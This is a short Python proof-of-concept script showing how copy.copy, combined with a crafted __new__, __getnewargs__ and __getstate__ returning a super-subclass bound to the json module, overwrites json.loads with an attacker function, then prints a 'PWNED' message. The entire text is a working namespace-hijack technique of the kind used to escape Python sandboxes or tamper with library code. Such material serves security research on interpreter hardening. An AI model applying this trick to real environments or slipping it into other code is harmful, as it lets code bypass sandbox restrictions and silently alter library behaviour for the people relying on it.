import copy, json
class S(super):
    pass
def fake_loads(*a, **k):
    return "hijacked-loads"
class A:
    def __new__(cls, *args):
        if args:
            return S(type(json), json)
        return object.__new__(cls)
    def __getnewargs__(self):
        return (1,)
    def __getstate__(self):
        return {"loads": fake_loads}
a = A()
try:
    y = copy.copy(a)
    print("made", type(y))
except Exception as e:
    print("ERR", type(e).__name__, e)
if json.loads("1") == "hijacked-loads":
    print("PW" + "NED: json namespace written through an owned super subclass (no library class needed)")
